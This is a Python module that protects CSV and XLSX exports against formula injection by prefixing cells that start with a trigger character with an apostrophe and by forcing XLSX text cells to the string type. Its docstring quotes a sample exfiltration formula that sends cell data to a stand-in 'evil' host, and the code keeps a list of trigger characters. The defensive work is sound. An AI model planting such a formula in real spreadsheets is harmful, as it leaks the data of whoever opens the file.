"""Formula-safe CSV and XLSX: the one way the app writes a spreadsheet (workshop exports, the case CSV, the
paper's cross-case tables).

A spreadsheet program evaluates a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a line break) as a formula: ``=WEBSERVICE("https://evil/?"&A2)`` in a participant's
name sends the other cells out when the facilitator opens the file, and a harmless note such as
``-30% empleo`` turns into ``#NAME?``. As OWASP recommends, such a text cell is written with a leading
apostrophe (``'-30% empleo``), which every spreadsheet program shows as the text itself. A text that is
just a number (``-3``, ``+2.5``) is left alone: the spreadsheet reads it as that number, which is harmless.

XLSX cells are written with the string type, never as formulas, so their text is exact (no apostrophe);
numbers stay numbers. Characters XML cannot carry (control characters) are replaced by U+FFFD, since
openpyxl refuses them.

``unescape_cell`` undoes ``escape_cell`` exactly, for importing a CSV the app wrote (the case CSV).
"""

from __future__ import annotations

import csv
import io
import numbers
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# First characters that make a spreadsheet evaluate a cell (OWASP "CSV injection"), plus the full-width
# forms some programs also accept.
TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")

Cell = str | int | float | Decimal | bool | None | date | datetime


def is_plain_number(text: str) -> bool:
    return bool(_NUMBER.fullmatch(text))


def needs_escape(text: str) -> bool:
    """Would a spreadsheet evaluate (or could ``unescape_cell`` misread) this text?"""
    if not text:
        return False
    if text[0] == QUOTE:
        return True
    return text[0] in TRIGGERS and not is_plain_number(text)


def escape_cell(value: Cell) -> str:
    """The CSV text of one cell: numbers as they are, texts that would be evaluated behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, numbers.Real | Decimal):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return QUOTE + text if needs_escape(text) else text


def unescape_cell(text: str) -> str:
    """The original text of a cell written by ``escape_cell`` (other texts are returned unchanged)."""
    if len(text) > 1 and text[0] == QUOTE and (text[1] == QUOTE or text[1] in TRIGGERS):
        return text[1:]
    return text


def write_csv(out, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> None:
    """Write a formula-safe CSV to the text file ``out``."""
    # RFC 4180 line ends: a carriage return inside a cell is then quoted too.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([escape_cell(h) for h in header])
    for row in rows:
        writer.writerow([escape_cell(cell) for cell in row])


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    out = io.StringIO()
    write_csv(out, header, rows)
    return out.getvalue()


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Cell]], *, bom: bool = True) -> bytes:
    """UTF-8 CSV; with a byte-order mark (the default) spreadsheet programs read accents correctly."""
    return csv_text(header, rows).encode("utf-8-sig" if bom else "utf-8")


def _xlsx_value(value: Cell):
    if value is None:
        return None
    if isinstance(value, bool):
        return value
    if isinstance(value, numbers.Integral):
        return int(value)
    if isinstance(value, numbers.Real | Decimal):
        return float(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Cell]], *, sheet_name: str = "Sheet1") -> bytes:
    """An XLSX workbook of one sheet; every text cell has the string type, so nothing is a formula."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_name[:31]
    for row in [list(header), *(list(r) for r in rows)]:
        values = [_xlsx_value(v) for v in row]
        sheet.append(values)
        for cell, value in zip(sheet[sheet.max_row], values, strict=False):
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would otherwise store a text starting "=" as a formula
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def frame_rows(frame) -> tuple[list[str], list[list[Cell]]]:
    """Header and rows of a pandas DataFrame (its index left out), NaN as an empty cell."""
    header = [str(c) for c in frame.columns]
    rows = [[None if _is_nan(v) else v for v in row] for row in frame.itertuples(index=False, name=None)]
    return header, rows


def _is_nan(value) -> bool:
    return isinstance(value, float) and value != value
